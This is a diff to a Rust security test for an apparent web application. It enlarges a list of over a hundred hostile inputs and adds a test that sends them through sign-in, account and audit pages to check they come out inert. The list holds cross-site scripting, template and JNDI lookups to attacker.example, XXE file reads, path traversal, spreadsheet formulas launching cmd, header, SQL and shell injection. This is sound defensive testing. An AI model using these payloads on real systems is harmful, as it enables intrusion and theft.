@@ -4,44 +4,133 @@ use std::fs;
 
 use scraper::{Html, node::Node};
 
+use ymateb_model::account::Role;
+use ymateb_pipeline::access::accounts::{self, By};
+
 use crate::{project::Folder, site::Site};
 
-/// What somebody may write to make a page do what they want.
-const PAYLOADS: [&str; 34] = [
+/// What somebody may write to make a page, a header, a spreadsheet, a shell, a database or a template do what they want.
+/// Words too long for a page, and bytes that are no text, are added where they are sent.
+const PAYLOADS: [&str; 112] = [
+    // Markup and scripts.
     "<script>alert(1)</script>",
     "\"><script>alert(1)</script>",
     "'><img src=x onerror=alert(1)>",
     "<svg onload=alert(1)>",
     "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>click</text></a></svg>",
     "</p></main></body><h1>Owned</h1>",
     "</title><script>alert(1)</script>",
     "</textarea><script>alert(1)</script>",
     "</select><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</bdi></a></dd></dl><h1>Owned</h1>",
+    "</option></select><input name=token value=mine>",
     "--><script>alert(1)</script><!--",
+    "<!--><img src=x onerror=alert(1)-->",
+    "<![CDATA[><img src=x onerror=alert(1)>]]>",
+    "<?xml version=\"1.0\"?><script>alert(1)</script>",
+    "<!DOCTYPE html><html onload=alert(1)>",
+    "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
     "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
+    "<object data=\"data:text/html,<script>alert(1)</script>\">",
+    "<embed src=//attacker.example/x.swf>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<button formaction=//attacker.example>Sign in</button>",
     "<a href=\"javascript:alert(1)\">click</a>",
+    "<a href=\"java\tscript:alert(1)\">click</a>",
+    "<a href=\"&#106;avascript:alert(1)\">click</a>",
+    "<a href=# target=_blank ping=//attacker.example>click</a>",
     "javascript:alert(1)",
+    "vbscript:msgbox(1)",
     "data:text/html,<script>alert(1)</script>",
+    "//attacker.example/",
+    "https://attacker.example/#\"><img src=x>",
     "<base href=\"//attacker.example/\">",
     "<meta http-equiv=\"refresh\" content=\"0;url=//attacker.example\">",
+    "<meta charset=\"utf-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
     "<style>*{display:none}</style>",
+    "<style>@import url(//attacker.example/x.css)</style>",
     "<link rel=stylesheet href=//attacker.example/x.css>",
+    "<link rel=prefetch href=//attacker.example/seen>",
     "<form action=//attacker.example><input name=token>",
+    "<form id=site><input form=site name=token></form>",
+    "<img name=getElementById><a id=document name=cookie>",
     "\" onmouseover=\"alert(1)\" x=\"",
     "' autofocus onfocus='alert(1)",
-    "{{ frame.title }} {% include \"layout.html\" %}",
-    "${7*7} #{7*7} <%= 7*7 %>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)",
+    "` onmouseover=`alert(1)",
+    "x\" style=\"position:fixed;inset:0",
+    "x\" lang=\"en\" dir=\"rtl",
     "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
     "<template><script>alert(1)</script></template>",
+    "<template shadowrootmode=open><script>alert(1)</script></template>",
+    "<plaintext>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<ScRiPt\u{b}>alert(1)</sCrIpT\u{c}>",
+    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
+    "\u{2039}script\u{203a}alert(1)\u{2039}/script\u{203a}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)",
+    "&#x3c;script&#x3e;alert(1)",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "\\x3cscript\\x3ealert(1)",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "%253Cscript%253Ealert(1)",
+    // Templates and Fluent.
+    "{{ frame.title }} {% include \"layout.html\" %}",
+    "{% raw %}{{ 7*7 }}{% endraw %}{# hidden #}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    "${jndi:ldap://attacker.example/x}",
+    "{ $n } { -brand } { NUMBER(1) } { \"quoted\" }",
+    "a = { $n ->\n    [one] one\n   *[other] other\n}",
+    "{\"__proto__\":{\"admin\":true}}",
+    // Direction, and letters that are not seen.
     "\u{202e}gnp.exe\u{202c} right to left",
+    "\u{202d}forced left to right\u{202b} and embedded",
     "\u{2067}isolated\u{2069}\u{2066} and not closed",
+    "\u{2068}first strong\u{200f}\u{200e}\u{61c} marks",
+    "zero\u{200b}width\u{200d}joined\u{feff}and\u{ad}soft",
+    "Z\u{334}\u{335}\u{336}\u{337}\u{338}\u{30d}\u{30e}a\u{334}\u{335}\u{336}\u{337}l\u{30d}\u{30e}go",
+    "\u{e0001}\u{e0074}\u{e0061}\u{e0067} tags",
+    "noncharacters \u{fffe} \u{ffff} \u{1fffe} and private \u{e000}",
+    "\u{2028}line\u{2029}paragraph\u{85}next",
+    // Control characters and lone surrogates, as escapes.
     "null\u{0}byte and \u{7}bell and \u{1b}[31mred\u{1b}[0m",
+    "\u{1b}]8;;https://attacker.example\u{7}click\u{1b}]8;;\u{7}",
+    "\u{9b}2J\u{90}1;1|\u{9c}",
+    "\\ud800 lone \\udfff surrogates \\u0000",
+    "%ed%a0%80 %c0%ae%c0%ae/ %ff%fe",
+    // Paths.
     "../../../../etc/passwd",
+    "..\\..\\..\\windows\\system32\\config\\sam",
+    "....//....//etc/passwd",
+    "/etc/passwd",
+    "C:\\boot.ini:$DATA",
     "%2e%2e%2f%2e%2e%2fetc%2fpasswd%00.html",
+    "CON.txt",
+    // Formulas.
     "=HYPERLINK(\"http://attacker.example\",\"click\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    // Headers, databases and shells.
+    "x\r\nSet-Cookie: ymateb-session=mine\r\n\r\n<h1>Owned</h1>",
+    "%0d%0aSet-Cookie:%20ymateb-session=mine",
+    "'; DROP TABLE submission; --",
+    "\" OR \"\"=\"' UNION SELECT password FROM account --",
+    "$(touch /tmp/owned) `id` ; id | id && id",
 ];
 
 /// A project in which names, answers, options, ids of sessions, file names, letters and the names of codes are hostile.
@@ -60,6 +149,7 @@ fn project() -> Folder {
         forms.push_str(&cells.map(|cell| quoted(&cell)).join(","));
         forms.push('\n');
     }
+    // No file can be called that.
     let named = |payload: &str| payload.replace(['/', '\0'], "_");
     let letters: Vec<(String, String)> = PAYLOADS
         .into_iter()
@@ -73,6 +163,9 @@ fn project() -> Folder {
     let mut files: Vec<(&str, &str)> = letters.iter().map(|(name, text)| (name.as_str(), text.as_str())).collect();
     files.push(("inbox/forms/export.csv", &forms));
     let folder = Folder::unrun(&files);
+    // Bytes that are no text: a lone surrogate and an overlong slash as UTF-8 would have them, and half a letter at the end.
+    let no_text = b"We ask \xed\xa0\x80 that halls \xc0\xaf be free <b>\xff</b> for all of us.\xc5";
+    fs::write(folder.root.join("inbox/letters/bytes.txt"), no_text).expect("a file");
     let framework = folder.root.join("framework.toml");
     let settings = fs::read_to_string(&framework).expect("a framework");
     let hostile = settings.replace("\"Roofs\"", "\"Roofs <img src=x onerror=alert(1)>\"");
@@ -244,5 +337,60 @@ fn what_is_hostile_in_an_address_is_inert_too() {
         }
         let address = format!("/en/submissions/x?done={escaped}");
         is_inert(&site.get(&address).text(), &address);
+    }
+}
+
+#[test]
+fn what_is_hostile_in_fields_of_signing_in_and_accounts_is_inert_too() {
+    let folder = Folder::small(&[("inbox/letters/to.txt", "We ask that halls be free for all of us.")]);
+    let project = ymateb_pipeline::Project::open(&folder.root).expect("a project");
+    let (password, by) = ("tŷ bach coch ar y bryn", By { name: "<b>\u{202e}=1+1", address: "" });
+    accounts::add(&project, "Mair", Role::Administrator, password, by).expect("made");
+    let huge = "ŵ".repeat(2_000);
+    let mair = Site::of(&folder).signed_in("Mair", password);
+    for (number, payload) in PAYLOADS.into_iter().chain([huge.as_str()]).enumerate() {
+        let language = ["cy", "en"][number % 2];
+        // Started again each time, or signing in and asking would soon have to wait.
+        let (site, mair) = (Site::of(&folder), mair.started_again(&folder));
+        let form = site.get(&format!("/{language}/sign-in")).page();
+        let fields = [("name", payload), ("password", payload), ("next", payload)];
+        let answer = site.submit(&form, "main form", &fields).is(401);
+        is_inert(&answer.text(), payload);
+        assert!(answer.headers.get("set-cookie").is_none(), "{payload:?}");
+        let right = [("name", "Mair"), ("password", password), ("next", payload)];
+        if number % 8 == 0 {
+            let location = site.submit(&form, "main form", &right).is(303);
+            let location = location.header("location");
+            assert!(location.starts_with(&format!("/{language}/")) && !location.contains(['\r', '\n']), "{location}");
+        }
+        let page = mair.get(&format!("/{language}/accounts")).is(200).page();
+        let made = mair.submit(&page, "main form", &[("name", payload), ("role", payload), ("password", payload)]);
+        is_inert(&made.is(400).text(), payload);
+        let made = mair.submit(&page, "main form", &[("name", payload), ("role", "reader"), ("password", "x")]);
+        is_inert(&made.is(400).text(), payload);
+        let escaped: String =
+            form_urlencoded::byte_serialize(payload.chars().take(500).collect::<String>().as_bytes()).collect();
+        for address in [
+            format!("/{language}/audit?who={escaped}&did={escaped}&since={escaped}&before={escaped}"),
+            format!("/{language}/audit.csv?who={escaped}"),
+            format!("/{language}/accounts/{escaped}"),
+            format!("/{language}/search?q={escaped}"),
+            format!("/{language}/sign-in?next={escaped}&done={escaped}&name={escaped}"),
+        ] {
+            let answer = mair.get(&address);
+            assert!([200, 303, 400, 404].contains(&answer.status.as_u16()), "{address}: {}", answer.status);
+            if answer.header("content-type").starts_with("text/html") {
+                is_inert(&answer.text(), &address);
+            }
+        }
+    }
+    let audit = mair.get("/cy/audit").is(200);
+    is_inert(&audit.text(), "/cy/audit");
+    let table = mair.get("/en/audit.csv").is(200).bytes;
+    let mut rows = csv::Reader::from_reader(&*table);
+    for row in rows.records() {
+        for cell in &row.expect("a row") {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a spreadsheet would run {cell:?}");
+        }
     }
 }
